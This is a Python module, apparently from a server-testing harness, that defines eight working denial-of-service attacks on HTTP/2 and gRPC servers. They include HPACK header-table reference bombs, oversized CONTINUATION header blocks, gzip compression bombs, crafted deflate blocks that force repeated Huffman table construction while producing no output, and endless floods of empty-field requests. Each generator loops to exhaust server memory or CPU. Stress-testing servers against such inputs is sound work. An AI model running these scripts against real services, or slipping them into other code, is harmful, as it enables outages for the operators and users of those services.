"""Attacks of which each piece is dear to the server: bombs, handshakes, large requests."""

import zlib
from itertools import count

from harness.attacks import frames as f
from harness.attacks.attack import Attack, Prey, Script


def _giant_headers(prey: Prey, number: int) -> Script:
    yield f.greeting()
    block = f.header_block(f.INFER, *((f"x-{field}", "y" * 100) for field in range(250)))
    pieces = [block[start : start + 16384] for start in range(0, len(block), 16384)]
    for stream in count(1, 2):
        yield f.frame(f.HEADERS, f.END_STREAM, stream, pieces[0]) + f.frame(
            f.CONTINUATION, f.END_HEADERS, stream, b"".join(pieces[1:])
        )


def _header_bomb(prey: Prey, number: int) -> Script:
    """One field of 4,000 bytes in the table of HPACK, and as many references to it, of a byte each, as are allowed."""
    yield f.greeting()
    block = f.header_block(f.INFER) + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    yield f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, 1, block)
    for stream in count(3, 2):
        yield f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, stream, f.header_block(f.INFER) + b"\xbe" * 15)


def _endless_bomb(prey: Prey, number: int) -> Script:
    """As many references as go into a frame."""
    yield f.greeting()
    block = f.header_block(f.INFER) + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    yield f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, 1, block + b"\xbe" * 12000)


def _gzip(content: bytes) -> bytes:
    stream = zlib.compressobj(9, zlib.DEFLATED, 31)
    return stream.compress(content) + stream.flush()


GZIP = ("grpc-encoding", "gzip")


def _compression_bomb(prey: Prey, number: int) -> Script:
    """Zeros, of which a thousand take a byte."""
    yield f.greeting()
    block = f.header_block(f.INFER, GZIP)
    body = f.message(_gzip(bytes(60 * 2**20)), 1)
    pieces = [body[start : start + 16384] for start in range(0, len(body), 16384)]
    for stream in count(1, 2):
        yield f.opened(stream, block)
        for piece in pieces:
            yield f.data(stream, piece, last=piece is pieces[-1])
        yield 0.1  # until there is room for more


def _small_bombs(prey: Prey, number: int) -> Script:
    """So many that what is read at a time has dozens."""
    yield f.greeting()
    block = f.header_block(f.INFER, GZIP)
    body = f.message(_gzip(bytes(120_000)), 1)
    for stream in count(1, 16):
        yield b"".join(f.opened(s, block) + f.data(s, body, last=True) for s in f.streams(8, stream))
        yield 0.002


def _stream_bombs(prey: Prey, number: int) -> Script:
    """Messages of one stream, each of which is answered, if only by an error."""
    yield f.greeting(f.LARGEST_WINDOW, f.LARGEST_WINDOW)
    yield f.opened(1, f.header_block(f.INFER_STREAM, GZIP))
    body = f.message(_gzip(bytes(3 * 2**20)), 1)
    while True:
        yield f.data(1, body)
        yield 0.01


_TABLES = bytes.fromhex("04c0810800000000207feb47001c880000000000f2b77e")
"""Two blocks of deflate with the tables of a code each, and nothing that is coded by it (RFC 1951, 3.2.7)."""


def _table_bomb(prey: Prey, number: int) -> Script:
    """Nothing comes out, but the tables of a code are built for every twelve bytes."""
    yield f.greeting()
    block = f.header_block(f.INFER, GZIP)
    body = f.message(_gzip(b"")[:10] + _TABLES * (60_000 // len(_TABLES)), 1)
    pieces = [body[start : start + 16384] for start in range(0, len(body), 16384)]
    for stream in count(1, 2):
        yield f.opened(stream, block)
        for piece in pieces:
            yield f.data(stream, piece, last=piece is pieces[-1])
        yield 0.01


def _fields(prey: Prey, number: int) -> Script:
    """A request of nothing but empty fields, as large as one may be."""
    yield f.greeting()
    block = f.header_block(f.INFER)
    body = f.message(b"\x2a\x00" * 30_000)
    for stream in count(1, 2):
        yield f.opened(stream, block)
        for start in range(0, len(body), 16000):
            yield f.data(stream, body[start : start + 16000], last=start + 16000 >= len(body))
        yield 0.02


COSTLY = (
    Attack("giant-headers", "headers of 28 KB", _giant_headers),
    Attack("header-bomb", "headers of 60 KB, compressed to a hundred bytes", _header_bomb),
    Attack("endless-bomb", "headers of 48 MB, compressed to 16 KB", _endless_bomb),
    Attack("compression-bomb", "messages of 60 MiB, compressed to 60 KB", _compression_bomb),
    Attack("small-bombs", "messages of 120 KB, compressed to 150 bytes", _small_bombs),
    Attack("stream-bombs", "messages of 3 MiB on a stream, compressed to 3 KB", _stream_bombs),
    Attack("table-bomb", "messages of 60 KB of which nothing comes out", _table_bomb),
    Attack("fields", "requests of empty fields", _fields),
)
